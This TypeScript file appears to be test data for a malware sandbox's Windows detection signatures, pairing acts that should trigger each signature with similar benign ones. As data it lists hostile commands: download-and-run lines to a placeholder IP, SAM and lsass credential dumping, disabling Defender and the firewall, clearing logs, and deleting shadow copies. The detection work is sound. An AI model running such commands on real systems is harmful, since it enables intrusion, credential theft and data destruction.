import type { SeenAct, SeenProcess } from "../../../src/lab/verdict/signature";

const SAMPLE: SeenProcess = {
  ...{ pid: 100, name: "sample.exe", parent: undefined },
  ...{ executable: "C:\\Users\\ann\\AppData\\Local\\Temp\\rebox-x\\sample.exe", commandLine: "sample.exe" },
};

/** For a signature: lists of acts each of which fires it by itself, and lists that do not. */
export interface WindowsExample {
  readonly fires: readonly (readonly SeenAct[])[];
  readonly quiet: readonly (readonly SeenAct[])[];
}

export function windowsAct(
  type: string,
  facts: Readonly<Record<string, unknown>> = {},
  doer: Partial<SeenProcess> = {},
): SeenAct {
  return { time: "2026-01-01T00:00:00.000Z", type, pid: 100, ...facts, doer: { ...SAMPLE, ...doer } };
}

const act = windowsAct;
const RUN = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion";
const USER = "\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001";
const MACHINE = "\\REGISTRY\\MACHINE";
const CONTROL = `${MACHINE}\\SYSTEM\\ControlSet001\\Control`;
const wrote = (path: string, doer?: Partial<SeenProcess>) => act("file.written", { path }, doer);
const removed = (path: string) => act("file.removed", { path });
const set = (key: string, name: string, data: string | number = "C:\\x.exe") =>
  act("registry.set", { key, name, valueType: typeof data === "number" ? "REG_DWORD" : "REG_SZ", data });
const ran = (commandLine: string, executable = "C:\\Windows\\System32\\cmd.exe") =>
  act("process.executed", {}, { commandLine, executable });
const injected = (way: string, target = 8) => act("process.injected", { way, target, targetName: "other.exe" });
const child = (pid: number) => act("process.created", { pid, ppid: 100, name: "child.exe" });
const system = (name: string) => ({ executable: `C:\\Windows\\System32\\${name}` });
const each = (...acts: readonly SeenAct[]) => acts.map((one) => [one]);

/** For each signature about Windows, what fires it, and what is like that and does not. */
export const WINDOWS_EXAMPLES: Readonly<Record<string, WindowsExample>> = {
  "run-key": {
    fires: each(
      set(`${MACHINE}\\${RUN}\\Run`, "Updater"),
      set(`${USER}\\${RUN}\\RunOnce`, "x"),
      set(`${MACHINE}\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run`, "x"),
      set(`${USER}\\${RUN}\\Policies\\Explorer\\Run`, "1"),
    ),
    quiet: each(
      set(`${MACHINE}\\${RUN}\\RunTime`, "x"),
      set(`${MACHINE}\\SOFTWARE\\Own\\Run`, "x"),
      act("registry.removed", { key: `${MACHINE}\\${RUN}\\Run`, name: "Updater" }),
    ),
  },
  "startup-folder": {
    fires: each(
      wrote("\\??\\C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk"),
      act("file.renamed", {
        path: "\\x",
        to: "\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\x.vbs",
      }),
    ),
    quiet: each(
      wrote("\\Users\\ann\\Start Menu\\Programs\\Startup\\desktop.ini"),
      wrote("\\Users\\ann\\Startup\\x.lnk"),
    ),
  },
  "windows-service": {
    fires: each(
      set(`${MACHINE}\\SYSTEM\\ControlSet001\\Services\\evil`, "ImagePath"),
      ran("sc.exe create evil binPath= C:\\x.exe"),
      ran("powershell New-Service -Name x"),
    ),
    quiet: each(
      set(`${MACHINE}\\SYSTEM\\ControlSet001\\Services\\evil`, "Start", 2),
      ran("sc query evil"),
      ran("cmd /c disc create"),
    ),
  },
  "scheduled-task": {
    fires: each(ran("schtasks /Create /TN x /TR C:\\x.exe"), wrote("C:\\Windows\\System32\\Tasks\\x")),
    quiet: each(ran("schtasks /Query"), wrote("C:\\Windows\\Tasks.log")),
  },
  "logon-program": {
    fires: each(set(`${MACHINE}\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon`, "Shell")),
    quiet: each(set(`${MACHINE}\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon`, "AutoRestartShell", 1)),
  },
  "image-file-debugger": {
    fires: each(
      set(
        `${MACHINE}\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe`,
        "Debugger",
      ),
    ),
    quiet: each(
      set(
        `${MACHINE}\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\x.exe`,
        "UseLargePages",
        1,
      ),
    ),
  },
  "library-in-all-programs": {
    fires: each(
      set(`${MACHINE}\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows`, "AppInit_DLLs"),
      set(`${CONTROL}\\Session Manager\\AppCertDlls`, "x"),
    ),
    quiet: each(set(`${MACHINE}\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows`, "AppInit_DLLs", "")),
  },
  "own-com-object": {
    fires: each(
      set("\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001_Classes\\CLSID\\{0A-1}\\InprocServer32", ""),
      set(`${USER}\\Software\\Classes\\CLSID\\{0A-1}\\InprocServer32`, ""),
    ),
    quiet: each(set(`${MACHINE}\\SOFTWARE\\Classes\\CLSID\\{0A-1}\\InprocServer32`, "")),
  },
  "security-package": {
    fires: each(set(`${CONTROL}\\Lsa`, "Security Packages"), set(`${CONTROL}\\Lsa`, "Notification Packages")),
    quiet: each(set(`${CONTROL}\\Lsa`, "LimitBlankPasswordUse", 1)),
  },
  "boot-execute": {
    fires: each(set(`${CONTROL}\\Session Manager`, "BootExecute", "evil")),
    quiet: each(set(`${CONTROL}\\Session Manager`, "PendingFileRenameOperations")),
  },
  "print-monitor": {
    fires: each(set(`${CONTROL}\\Print\\Monitors\\x`, "Driver", "x.dll")),
    quiet: each(set(`${CONTROL}\\Print\\Monitors`, "Driver", "x.dll"), set(`${CONTROL}\\Print\\Printers\\x`, "Port")),
  },
  "management-subscription": {
    fires: each(ran("wmic /NAMESPACE:\\\\root\\subscription PATH CommandLineEventConsumer CREATE Name=x")),
    quiet: each(ran("wmic os get caption")),
  },
  "screen-saver": {
    fires: each(set(`${USER}\\Control Panel\\Desktop`, "SCRNSAVE.EXE")),
    quiet: each(set(`${USER}\\Control Panel\\Desktop`, "ScreenSaveTimeOut", "600")),
  },
  "logon-script": {
    fires: each(set(`${USER}\\Environment`, "UserInitMprLogonScript")),
    quiet: each(set(`${USER}\\Environment`, "Path")),
  },
  "windows-account": {
    fires: each(ran("net user x secret /add"), ran("net1 localgroup administrators x /ADD")),
    quiet: each(ran("net user"), ran("net use z: \\\\x\\y")),
  },
  "accessibility-program": {
    fires: each(wrote("\\??\\C:\\Windows\\System32\\sethc.exe")),
    quiet: each(wrote("\\??\\C:\\Users\\ann\\sethc.exe")),
  },
  "windows-program-replaced": {
    fires: each(
      wrote("\\Windows\\System32\\x.dll"),
      wrote("\\Device\\HarddiskVolume2\\Windows\\SysWOW64\\wbem\\x.exe"),
    ),
    quiet: each(
      wrote("\\Windows\\System32\\x.dll", system("TrustedInstaller.exe")),
      wrote("\\Windows\\System32\\x.log"),
      wrote("\\Program Files\\x\\x.dll"),
    ),
  },
  "defender-off": {
    fires: each(
      set(`${MACHINE}\\SOFTWARE\\Policies\\Microsoft\\Windows Defender`, "DisableAntiSpyware", 1),
      set(`${MACHINE}\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths`, "C:\\", 0),
      ran("powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
      ran("sc stop WinDefend"),
    ),
    quiet: each(
      set(`${MACHINE}\\SOFTWARE\\Policies\\Microsoft\\Windows Defender`, "DisableAntiSpyware", 0),
      ran("powershell Get-MpPreference"),
    ),
  },
  "windows-firewall-off": {
    fires: each(
      ran("netsh advfirewall set allprofiles state off"),
      set(
        `${MACHINE}\\SYSTEM\\ControlSet001\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile`,
        "EnableFirewall",
        0,
      ),
    ),
    quiet: each(
      ran("netsh advfirewall show allprofiles"),
      set(
        `${MACHINE}\\SYSTEM\\ControlSet001\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile`,
        "EnableFirewall",
        1,
      ),
    ),
  },
  "event-log-cleared": {
    fires: each(ran("wevtutil cl Security"), removed("\\Windows\\System32\\winevt\\Logs\\Security.evtx")),
    quiet: each(ran("wevtutil qe Security"), removed("\\Users\\ann\\Logs\\Security.evtx")),
  },
  "account-control-off": {
    fires: each(set(`${MACHINE}\\${RUN}\\Policies\\System`, "EnableLUA", 0)),
    quiet: each(set(`${MACHINE}\\${RUN}\\Policies\\System`, "EnableLUA", 1)),
  },
  "account-control-passed": {
    fires: each(
      set("\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001_Classes\\ms-settings\\shell\\open\\command", ""),
      set(`${USER}\\Environment`, "windir"),
    ),
    quiet: each(set("\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001_Classes\\own\\shell\\open\\command", "")),
  },
  "tools-forbidden": {
    fires: each(set(`${USER}\\${RUN}\\Policies\\System`, "DisableTaskMgr", 1)),
    quiet: each(set(`${USER}\\${RUN}\\Policies\\System`, "DisableTaskMgr", 0)),
  },
  "files-out-of-sight": {
    fires: each(
      set(`${USER}\\${RUN}\\Explorer\\Advanced`, "Hidden", 2),
      set(`${USER}\\${RUN}\\Explorer\\Advanced`, "HideFileExt", 1),
    ),
    quiet: each(set(`${USER}\\${RUN}\\Explorer\\Advanced`, "Hidden", 1)),
  },
  "windows-hosts-file": {
    fires: each(wrote("\\Windows\\System32\\drivers\\etc\\hosts")),
    quiet: each(wrote("\\Users\\ann\\etc\\hosts")),
  },
  "windows-certificate": {
    fires: each(
      act("registry.made", { key: `${MACHINE}\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\0A1B` }),
      ran("certutil -addstore root x.cer"),
    ),
    quiet: each(
      act("registry.removed", { key: `${MACHINE}\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\0A1B` }),
      ran("certutil -dump x.cer"),
    ),
  },
  "safe-mode": { fires: each(ran("bcdedit /set {default} safeboot network")), quiet: each(ran("bcdedit /enum")) },
  "windows-name-elsewhere": {
    fires: each(ran("svchost", "C:\\Users\\Public\\svchost.exe"), ran("x", "C:\\Windows\\Temp\\lsass.exe")),
    quiet: each(
      ran("svchost -k x", "C:\\Windows\\System32\\svchost.exe"),
      ran("explorer", "\\Device\\HarddiskVolume2\\Windows\\explorer.exe"),
      ran("x", "C:\\x\\mysvchost.exe"),
    ),
  },
  "two-endings": {
    fires: each(ran("x", "C:\\Users\\ann\\bill.pdf.exe"), ran("x", "C:\\Users\\ann\\bill.pdf      .scr")),
    quiet: each(ran("x", "C:\\Users\\ann\\setup.1.2.exe")),
  },
  "windows-removes-itself": {
    fires: each(
      removed("\\Users\\ann\\AppData\\Local\\Temp\\rebox-x\\SAMPLE.exe"),
      ran('cmd.exe /c ping -n 3 127.0.0.1 & del "C:\\x.exe"'),
    ),
    quiet: each(removed("\\Users\\ann\\AppData\\Local\\Temp\\other.exe"), ran("cmd.exe /c ping 127.0.0.1")),
  },
  "writes-into-process": {
    fires: [[injected("NtWriteVirtualMemory")], [child(8), injected("NtMapViewOfSection", 9)]],
    quiet: [[child(8), injected("NtWriteVirtualMemory", 8)], [injected("NtSetContextThread")]],
  },
  "remote-thread": {
    fires: [[injected("NtCreateThreadEx")]],
    quiet: [[child(8), injected("NtCreateThread", 8)], [injected("NtWriteVirtualMemory")]],
  },
  "hollowed-process": {
    fires: [[child(8), injected("NtWriteVirtualMemory", 8), injected("NtSetContextThread", 8)]],
    quiet: [[injected("NtWriteVirtualMemory", 8), injected("NtSetContextThread", 9)]],
  },
  "queued-call": { fires: [[injected("NtQueueApcThread")]], quiet: [[injected("NtSetContextThread")]] },
  "suspends-others": {
    fires: [[injected("NtSuspendProcess")]],
    quiet: [[child(8), injected("NtSuspendThread", 8)]],
  },
  "foreign-code-memory": {
    fires: each(act("process.memory", { rights: "writable and executable", target: 8, targetName: "x.exe" })),
    quiet: each(act("process.memory", { rights: "writable and executable" })),
  },
  "opens-logon-process": {
    fires: each(act("process.opened", { target: 8, targetName: "lsass.exe", rights: "0x1fffff" })),
    quiet: each(act("process.opened", { target: 8, targetName: "notepad.exe", rights: "0x1fffff" })),
  },
  "ends-others": {
    fires: [[act("process.terminated", { target: 8, targetName: "av.exe" })]],
    quiet: [[child(8), act("process.terminated", { target: 8, targetName: "child.exe" })], [act("process.ended")]],
  },
  "windows-credentials": {
    fires: each(
      ran("reg save HKLM\\SAM C:\\x"),
      ran("rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 600 C:\\x full"),
      wrote("C:\\Users\\ann\\lsass.DMP"),
    ),
    quiet: each(ran("reg query HKLM\\SAM"), ran("rundll32 shell32.dll,Control_RunDLL"), wrote("C:\\Users\\ann\\x.dmp")),
  },
  "windows-driver": {
    fires: each(
      act("kernel.module", { key: `${MACHINE}\\System\\CurrentControlSet\\Services\\evil`, way: "NtLoadDriver" }),
      wrote("\\Windows\\System32\\drivers\\evil.sys"),
    ),
    quiet: each(act("kernel.module", { way: "NtUnloadDriver" }), wrote("\\Users\\ann\\evil.sys")),
  },
  "windows-dropped-program": {
    fires: [[wrote("\\??\\C:\\Users\\Public\\Run.exe"), ran("x", "C:\\Users\\public\\run.exe")]],
    quiet: [[ran("x", "C:\\Users\\Public\\run.exe"), wrote("\\??\\C:\\Users\\Public\\run.exe")]],
  },
  "encoded-powershell": {
    fires: each(ran("powershell.exe -nop -enc SQBFAFgAIAA="), ran("powershell -WindowStyle Hidden -File x.ps1")),
    quiet: each(ran("powershell -ExecutionPolicy Bypass -File encode.ps1")),
  },
  "windows-download": {
    fires: each(
      ran("certutil -urlcache -split -f http://192.0.2.1/x x.exe"),
      ran("mshta http://192.0.2.1/x.hta"),
      ran("powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"),
    ),
    quiet: each(ran("certutil -hashfile x.exe"), ran("mshta C:\\x.hta"), ran("regsvr32 /s x.dll")),
  },
  "looks-around-windows": {
    fires: each(ran("whoami /all", "C:\\Windows\\System32\\whoami.exe")),
    quiet: each(ran("x", "C:\\x\\notwhoami.exe")),
  },
  "shadow-copies-removed": {
    fires: each(ran("vssadmin.exe Delete Shadows /All /Quiet"), ran("wmic shadowcopy delete")),
    quiet: each(ran("vssadmin list shadows"), ran("wmic shadowcopy list")),
  },
  "recovery-off": {
    fires: each(ran("bcdedit /set {default} recoveryenabled No")),
    quiet: each(ran("bcdedit /set {default} recoveryenabled Yes")),
  },
  "windows-ransom-note": {
    fires: each(wrote("\\Users\\ann\\Desktop\\HOW_TO_DECRYPT_FILES.txt")),
    quiet: each(wrote("\\Users\\ann\\Desktop\\README.txt")),
  },
  "windows-files-removed": {
    fires: [Array.from({ length: 100 }, (_, index) => removed(`\\Users\\ann\\Documents\\${index}.doc`))],
    quiet: [
      Array.from({ length: 150 }, (_, index) => removed(`\\Users\\ann\\AppData\\Local\\Temp\\${index}`)),
      Array.from({ length: 150 }, () => removed("\\Users\\ann\\Documents\\1.doc")),
    ],
  },
  "other-wallpaper": {
    fires: each(set(`${USER}\\Control Panel\\Desktop`, "Wallpaper", "C:\\x.bmp")),
    quiet: each(set(`${USER}\\Control Panel\\Desktop`, "WallpaperStyle", "2")),
  },
  "windows-services-stopped": {
    fires: each(ran("net stop MSSQLSERVER"), ran("taskkill /f /im sqlservr.exe")),
    quiet: each(ran("net start"), ran("sc query x")),
  },
  "windows-goes-down": {
    fires: each(ran("shutdown /r /t 0"), ran("powershell Restart-Computer -Force")),
    quiet: each(ran("shutdown /a")),
  },
};
